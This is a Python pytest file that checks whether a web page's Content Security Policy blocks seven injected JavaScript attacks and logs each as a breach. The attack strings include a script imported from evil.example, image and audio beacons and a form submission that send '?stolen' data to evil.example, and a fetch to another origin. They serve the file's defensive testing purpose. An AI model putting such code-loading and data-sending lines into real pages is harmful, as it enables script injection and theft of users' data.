"""What the page's policy stops, were something to slip past everything else; and that tests of the
other files would have seen it."""

from __future__ import annotations

import asyncio

import pytest

from tests.console.conftest import Opener
from tests.process import KEY, Engine

pytestmark = pytest.mark.asyncio(loop_scope="session")

ATTACKS = {
    "script-src-elem": """
        import("https://evil.example/x.js").catch(() => undefined);
    """,
    "style-src-attr": """
        document.body.setAttribute("style", "display: none");
    """,
    "img-src": """
        new Image().src = "https://evil.example/?stolen";
    """,
    "media-src": """
        new Audio("https://evil.example/?stolen").load();
    """,
    "connect-src": """
        fetch("ELSEWHERE/v1/models").catch(() => undefined);
    """,
    "form-action": """
        const form = document.createElement("form");
        form.action = "https://evil.example/";
        document.body.append(form);
        form.submit();
    """,
    "require-trusted-types-for": """
        try { document.body.innerHTML = "<b>raw</b>"; } catch (refused) {}
    """,
}


async def stopped(at: Opener, attack: str) -> None:
    """Make the attack, and leave the page once it was stopped."""
    async with at(KEY) as page:
        await page.evaluate(f"() => {{{attack}}}")
        async with asyncio.timeout(10):  # not by wait_for_function: the policy forbids its eval
            while not await page.evaluate("() => window.__breaches.length"):
                await asyncio.sleep(0.05)


@pytest.mark.parametrize("directive", ATTACKS)
async def test_the_browser_stops_it_and_a_test_would_see_it(
    at: Opener, loopback: Engine, directive: str
) -> None:
    attack = ATTACKS[directive].replace("ELSEWHERE", loopback.url)
    with pytest.raises(AssertionError, match=rf"breaches: \['{directive}: "):
        await stopped(at, attack)
